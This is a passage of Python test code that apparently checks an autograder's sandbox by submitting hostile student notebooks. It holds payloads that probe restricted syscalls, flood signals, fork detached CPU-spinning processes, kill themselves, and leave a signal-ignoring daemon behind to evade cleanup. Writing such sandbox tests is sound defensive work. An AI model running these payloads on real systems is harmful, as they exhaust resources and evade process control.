        "inotify": "libc.inotify_init1(0)",
        "asynchronous-io": (
            "libc.syscall({'x86_64': 206, 'aarch64': 0}[os.uname().machine], 60_000, ctypes.byref(ctypes.c_ulong(0)))"
        ),
        "machine-sockets": "libc.socket(40, 1, 0)",
        "netlink": "libc.socket(16, 3, 0)",
        "packet-sockets": "libc.socket(17, 3, 0)",
        "kernel-messages": "libc.klogctl(3, ctypes.create_string_buffer(1 << 16), 1 << 16)",
    }.items():
        yield (
            name,
            function(
                f"""
            libc = ctypes.CDLL(None, use_errno=True)
            got = [{call} for _ in range(200)]
            raise ValueError("refused" if set(got) == {{-1}} else "alarm")
            """,
                "raised",
                "refused",
            ),
        )
    yield (
        "pending-signals",
        function(
            """
        signal.pthread_sigmask(signal.SIG_BLOCK, {40})
        libc = ctypes.CDLL(None, use_errno=True)
        sent = sum(libc.sigqueue(os.getpid(), 40, None) == 0 for _ in range(5_000))
        raise ValueError("refused" if sent < 1_000 else "alarm")
        """,
            "raised",
            "refused",
        ),
    )
    yield "giant-replies", function("return np.ones(7_900_000)", "type", "an object of another type")
    yield (
        "seven-spinners",
        function(
            """
        for _ in range(7):
            if os.fork() == 0:
                os.setsid()
                end = time.monotonic() + 60
                while time.monotonic() < end: pass
                os._exit(0)
        time.sleep(60)
        """,
            "timeout",
        ),
    )
    yield (
        "takes-naps",
        function(
            """
        while True:
            end = time.process_time() + 0.005
            while time.process_time() < end: pass
            time.sleep(1)
        """,
            "timeout",
            "nothing computed",
        ),
    )
    yield (
        "killed-by-nobody",
        function("os.kill(os.getpid(), signal.SIGKILL)", "died"),
    )
    yield (
        "clings",
        function(
            """
        if os.fork() == 0:
            os.setsid()
            libc = ctypes.CDLL(None)
            libc.prctl(1, 0, 0, 0, 0)
            for number in range(1, 65): attempt(signal.signal, number, signal.SIG_IGN)
            attempt(os.closerange, 0, 256)
            end = time.monotonic() + 90
            while time.monotonic() < end: pass
            os._exit(0)
        return 0.0
        """,
            "values",
        ),
    )


for _group in (
    attacks_on_the_comparison,
    attacks_on_the_pipe,
    attacks_on_the_process,
    attacks_on_secrets,
    attacks_on_the_notebook,
    attacks_on_other_exercises,
    attacks_on_what_is_shared,
):
    ATTACKS.update(_group())


def hand_in_hostile(place, names=ATTACKS):
    """Writes the attacks, each as a student of its name."""
    for name in names:
        attack = ATTACKS[name]
        content = attack.content(place)
        if isinstance(content, bytes) and len(content) > 1 << 24:  # as a sparse file
            file = hand_in(place.submissions, f"{name}/{attack.notebook}.ipynb", b"")
            os.truncate(file, len(content))
        else:
            hand_in(place.submissions, f"{name}/{attack.notebook}.ipynb", content)
